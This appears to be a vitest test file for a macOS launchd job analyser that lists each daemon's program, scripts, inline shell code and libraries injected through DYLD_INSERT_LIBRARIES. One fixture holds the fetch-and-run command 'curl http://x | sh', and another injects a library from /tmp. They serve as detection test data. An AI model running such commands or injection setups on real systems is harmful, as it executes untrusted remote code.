import { describe, expect, it } from 'vitest';
import type { Payload } from '../../../shared/model/service-record.ts';
import { collectJobs, type PlistSpec, xmlPlist } from './collect-jobs.ts';

const PATH = '/Library/LaunchDaemons/x.plist';

function payloads(
  job: Readonly<Record<string, PlistSpec>>,
  files: readonly string[] = [],
): readonly Payload[] {
  const tree: Record<string, string> = { [PATH]: xmlPlist({ Label: 'x', ...job }) };
  for (const file of files) tree[file] = 'x';
  return collectJobs(tree).named('x').payloads;
}

describe('programs of a job', () => {
  it('runs Program with the arguments of the list', () => {
    expect(
      payloads({ Program: '/bin/sh', ProgramArguments: ['ignored', '/opt/x.sh'] }, ['/opt/x.sh']),
    ).toMatchObject([
      { role: 'image', from: 'Program', path: '/bin/sh', arguments: '/opt/x.sh' },
      { role: 'hosted-program', path: '/opt/x.sh', state: 'found' },
      { role: 'script-code', from: '/opt/x.sh', raw: 'x', arguments: 'sh, lines 1' },
    ]);
  });

  it('looks for a bare name where launchd does, not where shells do', () => {
    const files = ['/usr/local/bin/tool', '/usr/sbin/tool'];
    expect(payloads({ ProgramArguments: ['tool'] }, files)).toMatchObject([
      { path: '/usr/sbin/tool', raw: 'tool', state: 'found' },
    ]);
    expect(payloads({ ProgramArguments: ['tool'] }, ['/usr/local/bin/tool'])).toMatchObject([
      { path: 'tool', state: 'missing' },
    ]);
  });

  it('begins relative paths in the working directory and absolute ones in the root directory', () => {
    expect(payloads({ Program: 'bin/x', WorkingDirectory: '/srv' }, ['/srv/bin/x'])).toMatchObject([
      { path: '/srv/bin/x', raw: 'bin/x', state: 'found' },
    ]);
    expect(payloads({ Program: '/bin/x', RootDirectory: '/jail/' }, ['/jail/bin/x'])).toMatchObject([
      { path: '/jail/bin/x', raw: '/bin/x', state: 'found' },
    ]);
  });

  it('finds a bare name in the working directory where no folder of the search path has it', () => {
    const job = { ProgramArguments: ['tool'], WorkingDirectory: '/srv' };
    expect(payloads(job, ['/srv/tool'])).toMatchObject([{ path: '/srv/tool', raw: 'tool', state: 'found' }]);
    expect(payloads(job, ['/srv/tool', '/usr/sbin/tool'])).toMatchObject([{ path: '/usr/sbin/tool' }]);
    expect(payloads(job)).toMatchObject([{ path: 'tool', state: 'missing' }]);
  });

  it('keeps inline code', () => {
    const found = payloads({ ProgramArguments: ['/bin/sh', '-c', 'curl http://x | sh'] });
    expect(found[0]).toMatchObject({ role: 'image', path: '/bin/sh' });
    expect(found.find(({ role }) => role === 'inline-code')).toMatchObject({
      raw: 'curl http://x | sh',
      path: '',
    });
  });

  it('names each library that the environment inserts', () => {
    const job = {
      Program: '/bin/x',
      EnvironmentVariables: { DYLD_INSERT_LIBRARIES: '/tmp/a.dylib:/usr/lib/b.dylib' },
    };
    const found = payloads(job, ['/bin/x', '/usr/lib/b.dylib']).filter(
      ({ role }) => role === 'preload-library',
    );
    const from = 'EnvironmentVariables.DYLD_INSERT_LIBRARIES';
    expect(found).toMatchObject([
      { from, path: '/tmp/a.dylib', state: 'missing' },
      { from, path: '/usr/lib/b.dylib', state: 'found' },
    ]);
  });

  it('has none for a job without a program', () => {
    const job = collectJobs({
      [PATH]: xmlPlist({ Label: 'x', ProgramArguments: [], WatchPaths: ['/etc'] }),
    }).named('x');
    expect(job).toMatchObject({
      kind: 'daemon',
      command: null,
      image: null,
      payloads: [],
      startMode: 'auto',
    });
  });
});
